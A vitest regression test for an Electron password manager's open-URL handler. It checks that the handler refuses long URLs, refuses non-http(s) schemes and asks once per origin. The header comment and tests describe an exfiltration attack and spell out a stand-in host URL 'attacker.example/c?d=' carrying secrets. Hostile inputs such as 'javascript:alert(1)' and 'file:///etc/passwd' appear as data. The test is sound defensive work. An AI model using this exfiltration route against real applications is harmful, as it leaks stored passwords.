// Attack: exfiltration through open-URL. A compromised renderer saves a login whose URL
// carries secrets (`https://attacker.example/c?d=<secrets>`, 2,316 characters) and calls
// item:open-url: shell.openExternal got the whole URL, a way out despite CSP connect-src
// 'none'. Now main opens only http(s) URLs of at most 2,048 characters, read from the item's
// record, and asks the person (a native dialog, played here by the stand-in) the first time
// an origin is opened, remembering the answer per origin, encrypted in the vault.
import fs from 'node:fs';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { createHandlers } from '../../electron/main/ipc/handlers';
import { createServices } from '../../electron/main/services';
import { MAX_OPEN_URL_LENGTH } from '../../electron/main/services/url-opener';
import { FAST_KDF, makeUnlockedHarness, ok, PASSWORD, type Harness } from '../main/ipc/helpers';

let h: Harness;
beforeEach(async () => {
  h = await makeUnlockedHarness();
});
afterEach(() => h.cleanup());

async function loginWith(url: string): Promise<string> {
  return ok(await h.api['item:create']({ item: { type: 'login', title: 'Bait', username: 'u', password: 'p', urls: [url] } })).id;
}

describe('exfiltration through open-URL', () => {
  it('refuses the 2,316-character URL that carried secrets out, without asking or opening', async () => {
    // What the attack read first: every password it could reveal, packed into one address.
    const secrets = 'a1B2c3D4e5F6g7H8'.repeat(143).slice(0, 2_316 - 'https://attacker.example/c?d='.length);
    const url = `https://attacker.example/c?d=${secrets}`;
    expect(url).toHaveLength(2_316);
    const id = await loginWith(url);
    const r = await h.api['item:open-url']({ id, index: 0 });
    expect(r).toMatchObject({ ok: false, error: { code: 'invalid-input' } });
    if (!r.ok) expect(r.error.message).toContain(String(MAX_OPEN_URL_LENGTH));
    expect(h.opened).toEqual([]);
    expect(h.confirm.asked).toEqual([]);
  });

  it('opens at most 2,048 characters, counted after encoding', async () => {
    const base = 'https://example.com/?q=';
    const longest = `${base}${'x'.repeat(MAX_OPEN_URL_LENGTH - base.length)}`;
    ok(await h.api['item:open-url']({ id: await loginWith(longest), index: 0 }));
    expect(h.opened).toEqual([longest]);
    // 700 characters that each become three once percent-encoded.
    const grows = await h.api['item:open-url']({ id: await loginWith(`${base}${'é'.repeat(700)}`), index: 0 });
    expect(grows).toMatchObject({ ok: false, error: { code: 'invalid-input' } });
    expect(h.opened).toHaveLength(1);
  });

  it('refuses every scheme but http(s), and addresses with credentials', async () => {
    for (const url of ['javascript:alert(1)', 'file:///etc/passwd', 'keystash-evil://x', 'data:text/html,hi', 'https://user:pw@example.com/']) {
      expect(await h.api['item:open-url']({ id: await loginWith(url), index: 0 })).toMatchObject({ ok: false, error: { code: 'invalid-input' } });
    }
    expect(h.opened).toEqual([]);
  });

  it('asks once per new origin in a native dialog, and remembers the answer in the vault', async () => {
    const site = await loginWith('https://accounts.example.com/login');
    ok(await h.api['item:open-url']({ id: site, index: 0 }));
    expect(h.confirm.asked).toEqual(['open https://accounts.example.com']);
    // Same origin, other path: no second question. Still remembered after lock and unlock.
    ok(await h.api['item:update']({ id: site, patch: { urls: ['https://accounts.example.com/reset'] } }));
    await h.services.lock('manual');
    ok(await h.api['vault:unlock']({ password: PASSWORD }));
    ok(await h.api['item:open-url']({ id: site, index: 0 }));
    expect(h.confirm.asked).toHaveLength(1);
    expect(h.opened).toEqual(['https://accounts.example.com/login', 'https://accounts.example.com/reset']);
    // The remembered answers are encrypted: the origin never appears in the vault's bytes.
    const bytes = Buffer.concat(fs.readdirSync(h.dir).filter((f) => f.startsWith('vault.keystash')).map((f) => fs.readFileSync(path.join(h.dir, f))));
    expect(bytes.includes(Buffer.from('accounts.example.com'))).toBe(false);
  });

  it('a "no" is remembered too: the window cannot open the site or ask again', async () => {
    h.confirm.openOriginAnswer = false;
    const bait = await loginWith('https://attacker.example/c?d=short');
    const first = await h.api['item:open-url']({ id: bait, index: 0 });
    expect(first).toMatchObject({ ok: false, error: { code: 'invalid-input' } });
    if (!first.ok) expect(first.error.message).toContain('https://attacker.example');
    h.confirm.openOriginAnswer = true; // even a person who would now say yes is not asked again
    for (let i = 0; i < 5; i++) expect((await h.api['item:open-url']({ id: bait, index: 0 })).ok).toBe(false);
    expect(h.confirm.asked).toEqual(['open https://attacker.example']);
    expect(h.opened).toEqual([]);
  });

  it('without a dialog to ask, nothing is opened', async () => {
    // A services build with no confirmations adapter answers every question with no.
    const opened: string[] = [];
    const services = createServices({
      userDataDir: h.dir,
      vaultPath: path.join(h.dir, 'other.keystash'),
      clipboard: h.clipboard,
      openExternal: async (url) => {
        opened.push(url);
      },
    });
    try {
      const api = createHandlers(services);
      ok(await api['vault:create']({ password: PASSWORD, kdf: FAST_KDF }));
      const id = ok(await api['item:create']({ item: { type: 'login', title: 'Site', urls: ['https://example.org/'] } })).id;
      expect(await api['item:open-url']({ id, index: 0 })).toMatchObject({ ok: false });
      expect(opened).toEqual([]);
    } finally {
      services.vault.close();
    }
  });
});
